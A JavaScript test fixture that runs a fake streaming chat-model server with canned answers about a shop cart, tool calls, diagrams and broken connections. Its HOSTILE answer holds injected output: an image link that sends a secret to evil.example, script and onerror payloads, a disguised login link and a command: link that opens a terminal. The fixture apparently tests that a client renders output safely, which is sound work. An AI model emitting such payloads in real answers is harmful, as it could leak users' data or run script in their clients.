/**
 * A model that always does the same: it looks at a file, then answers in pieces.
 *
 * It lists two models, refuses one wrong key and counts to ten when that is asked for.
 *
 * A question with SLOW gets 100 pieces a second until it is stopped, two minutes at most; one with
 * HOSTILE an answer that tries to load and run things; one with DIAGRAM drawings and code; one with
 * BROKEN an answer whose connection breaks; one with PARTS a plan and two helpers.
 */

import { createServer } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { Gate } from './gate.mjs';

const ANSWER = `\`Cart.total\` adds up what is in the cart and converts it **once**, at the end:

1. The prices of all items are summed, see shop/cart.py:18.
2. \`convert\` in shop/prices.py:6 multiplies with the rate of the currency.
3. \`round_cents\` rounds half up, as [the rule](knowledge/money.md#L15) asks.

\`\`\`python
def total(self, currency: str = "EUR") -> int:
    cents = sum(price for _, price in self.items)
    return round_cents(convert(cents, currency))  # whole cents
\`\`\`

| currency | rate |
|---|--:|
| EUR | 1.0 |
| CNY | 7.8 |

A currency without a rate ends in a \`KeyError\`; nothing in shop/currency.py:40 catches it.
`;

const ANSWER_ZH = `\`Cart.total\` 把购物车中所有商品的价格相加，并在最后**换算一次**：

1. 先对价格求和，见 shop/cart.py:18。
2. \`convert\`（shop/prices.py:6）乘以币种的汇率。
3. \`round_cents\` 按[规则](knowledge/money.md#L15)四舍五入。

\`\`\`python
return round_cents(convert(cents, currency))
\`\`\`

没有汇率的币种会引发 \`KeyError\`，shop/currency.py:40 中并没有处理它。
`;

const LOOKS = [
  ['read_file', { path: 'shop/cart.py', first_line: 14, last_line: 20 }],
  ['search_files', { query: 'round_cents' }],
  ['read_file', { path: 'shop/currency.py' }],
];

const HOSTILE = `![logo](https://evil.example/pixel.png?q=SECRET)

<img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(1)</script>

[harmless](https://evil.example/login) and [run](command:workbench.action.terminal.new)
`;

const DIAGRAM = `The cart asks the prices:

\`\`\`mermaid
flowchart LR
  total["Cart.total<br/>shop/cart.py:18"] --> convert["convert(&quot;EUR&quot;)"]
  convert -->|"once"| round(["round_cents 四舍五入"])
\`\`\`

\`\`\`mermaid
flowchart LR
  total -->
\`\`\`

\`\`\`mermaid
gantt
  title Plan
\`\`\`

In shop/cart.py:18 one could write:

\`\`\`python
def total(self, currency: str = "EUR") -> int:
    cents = sum(price for _, price in self.items)  # counted once
    return round_cents(convert(cents, currency))
\`\`\`
`;

const JOINED = `Two parts were looked at:

- The cart adds up first: \`return round_cents(convert(cents, currency))\` (shop/cart.py:14).
- The prices are whole cents, see shop/prices.py:13.
`;

const STEPS = ['Look at the cart and the prices', 'Join what was found'];

const TASKS = [
  ['Find out how the cart adds up.', 'shop/cart.py', 'The sum is in shop/cart.py:18.'],
  ['Find out how prices are rounded.', 'shop/prices.py', 'Half up, see shop/prices.py:13.'],
];

export async function startModel() {
  const requests = [];
  const gate = new Gate();
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (piece) => (body += piece));
    request.on('end', () => {
      if (refuseOrList(request, response)) {
        return;
      }
      const parsed = JSON.parse(body);
      const record = { headers: request.headers, body: parsed, wasCut: false };
      requests.push(record);
      response.on('close', () => (record.wasCut = !response.writableFinished));
      void reply(parsed.messages, response, gate);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/v1`,
    requests,
    hold: (look) => gate.hold(look),
    stop: () =>
      new Promise((resolve) => {
        server.close(resolve);
        server.closeAllConnections();
      }),
  };
}

const WRONG_KEY = 'sk-wrong-0123456789';
export const OFFERED = ['small-one', 'large-one'];

/** Refuse a key that is wrong, and say which models there are; everything else is a question. */
function refuseOrList(request, response) {
  const isWrong = request.headers.authorization === `Bearer ${WRONG_KEY}`;
  if (isWrong || request.method === 'GET') {
    const data = OFFERED.map((id) => ({ id, object: 'model' }));
    const answer = isWrong ? { error: { message: 'Incorrect API key provided' } } : { data };
    response.writeHead(isWrong ? 401 : 200, { 'Content-Type': 'application/json' });
    response.end(JSON.stringify(answer));
    return true;
  }
  return false;
}

async function reply(messages, response, gate) {
  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
  const send = (delta, finish = null) => {
    const choices = [{ index: 0, delta, finish_reason: finish }];
    response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices })}\n\n`);
  };
  const say = (text) => gate.say(text.match(/[\s\S]{1,6}/g), 10, send);
  const question = JSON.stringify(messages.filter((each) => each.role === 'user').at(-1));
  if (question.includes('SLOW')) {
    for (let i = 0; i < 12_000 && !response.destroyed; i += 1) {
      send({ content: i % 12 === 11 ? `word ${i}.\n\n` : `word ${i} ` });
      await sleep(10);
    }
  } else if (question.includes('Count from 1 to 10')) {
    await say('1 2 3 4 5 6 7 8 9 10');
  } else if (question.includes('HOSTILE')) {
    await say(HOSTILE);
  } else if (question.includes('DIAGRAM')) {
    await say(DIAGRAM);
  } else if (question.includes('BROKEN')) {
    await say(ANSWER.slice(0, 120));
    response.destroy();
    return;
  } else if (messages[0].content.includes('You are a helper here')) {
    await help(messages, send, say);
  } else if (question.includes('PARTS')) {
    await workInParts(messages, send, say);
  } else if (messages.at(-1).role === 'tool') {
    // What was found for the question may be in another language than it.
    const asked = question.replaceAll(/<material .*?<\/material \w+>/g, '');
    await say(/[\u4e00-\u9fff]{2}/.test(asked) ? ANSWER_ZH : ANSWER);
  } else {
    await sleep(300);
    sendCalls(LOOKS, send);
  }
  send({}, 'stop');
  const usage = { prompt_tokens: 1840, completion_tokens: 212, total_tokens: 2052, prompt_tokens_details: { cached_tokens: 1024 } };
  response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [], usage })}\n\n`);
  response.end('data: [DONE]\n\n');
}

/** Read the file of its task, then report. */
async function help(messages, send, say) {
  const [, path, report] = TASKS.find(([task]) => messages[1].content.includes(task));
  if (messages.at(-1).role === 'tool') {
    await say(report);
  } else {
    sendCalls([['read_file', { path }]], send);
  }
}

/** Plan and delegate, tick off, join. */
async function workInParts(messages, send, say) {
  const asked = messages.findLastIndex((each) => each.role === 'user');
  const nRounds = messages.slice(asked).filter((each) => each.tool_calls).length;
  const plan = (...states) => ['plan', { steps: STEPS.map((text, i) => ({ text, state: states[i] })) }];
  if (nRounds === 0) {
    const delegated = TASKS.map(([task]) => ['delegate', { task }]);
    sendCalls([plan('active', 'pending'), ...delegated], send);
  } else if (nRounds === 1) {
    sendCalls([plan('done', 'done')], send);
  } else {
    await say(JOINED);
  }
}

function sendCalls(calls, send) {
  const tool_calls = calls.map(([name, values], index) => ({
    index,
    id: `call-${index}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(values) },
  }));
  send({ tool_calls });
  send({}, 'tool_calls');
}
